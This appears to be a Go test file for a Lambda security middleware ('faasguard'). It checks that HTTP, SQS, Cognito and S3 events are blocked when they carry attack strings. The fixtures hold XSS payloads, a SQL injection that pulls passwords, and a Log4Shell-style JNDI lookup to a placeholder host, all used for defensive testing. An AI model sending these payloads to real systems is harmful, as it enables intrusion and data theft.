package lambdamw

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/aws/aws-lambda-go/events"

	"github.com/faasguard/faasguard/guard"
)

func engine(t *testing.T, p guard.Policy) *guard.Engine {
	t.Helper()
	e, err := guard.New(p, guard.WithEventsTo(nil))
	if err != nil {
		t.Fatal(err)
	}
	return e
}

func TestWrapHTTP(t *testing.T) {
	calls := 0
	h := Wrap(engine(t, guard.Policy{}), func(ctx context.Context, req events.APIGatewayV2HTTPRequest) (events.APIGatewayV2HTTPResponse, error) {
		calls++
		return events.APIGatewayV2HTTPResponse{StatusCode: 200, Body: "hello " + req.QueryStringParameters["name"]}, nil
	})
	ev := func(name string) []byte {
		b, _ := json.Marshal(events.APIGatewayV2HTTPRequest{Version: "2.0", RouteKey: "GET /hi", RawPath: "/hi",
			QueryStringParameters: map[string]string{"name": name},
			RequestContext:        events.APIGatewayV2HTTPRequestContext{HTTP: events.APIGatewayV2HTTPRequestContextHTTPDescription{Method: "GET"}}})
		return b
	}
	out, err := h.Invoke(context.Background(), ev("Zoë"))
	if err != nil || !strings.Contains(string(out), `"hello Zoë"`) || calls != 1 {
		t.Fatalf("allowed: %s %v calls=%d", out, err, calls)
	}
	out, err = h.Invoke(context.Background(), ev("<script>alert(1)</script>"))
	if err != nil || !strings.Contains(string(out), `"statusCode":403`) || calls != 1 {
		t.Fatalf("blocked: %s %v calls=%d", out, err, calls)
	}
}

func TestWrapSQSPartial(t *testing.T) {
	var seen []string
	h := Wrap(engine(t, guard.Policy{}), func(ctx context.Context, ev events.SQSEvent) (events.SQSEventResponse, error) {
		var resp events.SQSEventResponse
		for _, r := range ev.Records {
			seen = append(seen, r.MessageId)
			if r.Body == "poison" {
				resp.BatchItemFailures = append(resp.BatchItemFailures, events.SQSBatchItemFailure{ItemIdentifier: r.MessageId})
			}
		}
		return resp, nil
	})
	ev, _ := json.Marshal(events.SQSEvent{Records: []events.SQSMessage{
		{MessageId: "a", Body: "fine", EventSource: "aws:sqs"},
		{MessageId: "b", Body: `{"q":"' UNION SELECT password FROM users --"}`, EventSource: "aws:sqs"},
		{MessageId: "c", Body: "poison", EventSource: "aws:sqs"},
	}})
	out, err := h.Invoke(context.Background(), ev)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(seen, ",") != "a,c" {
		t.Errorf("handler saw %v, want a,c", seen)
	}
	var resp events.SQSEventResponse
	if err := json.Unmarshal(out, &resp); err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, f := range resp.BatchItemFailures {
		ids = append(ids, f.ItemIdentifier)
	}
	if strings.Join(ids, ",") != "c,b" {
		t.Errorf("batchItemFailures %v, want c,b (handler's own, then the guard's)", ids)
	}
}

func TestWrapRawAndCognito(t *testing.T) {
	h := Wrap(engine(t, guard.Policy{}), func(ctx context.Context, ev json.RawMessage) (json.RawMessage, error) {
		return ev, nil
	})
	in := `{"hello":"world"}`
	if out, err := h.Invoke(context.Background(), []byte(in)); err != nil || string(out) != in {
		t.Errorf("raw passthrough: %s %v", out, err)
	}
	cog := `{"version":"1","triggerSource":"PreSignUp_SignUp","region":"r","userPoolId":"p","userName":"u","callerContext":{},"request":{"userAttributes":{"name":"${jndi:ldap://x.example/a}"}},"response":{}}`
	if _, err := h.Invoke(context.Background(), []byte(cog)); !errors.Is(err, guard.ErrBlocked) {
		t.Errorf("cognito: %v", err)
	}
	// async source: acknowledged, not retried
	s3 := `{"Records":[{"eventSource":"aws:s3","s3":{"object":{"key":"%3Cscript%3Ealert(1)%3C%2Fscript%3E"}}}]}`
	if out, err := h.Invoke(context.Background(), []byte(s3)); err != nil || !strings.Contains(string(out), "blocked") {
		t.Errorf("s3: %s %v", out, err)
	}
}
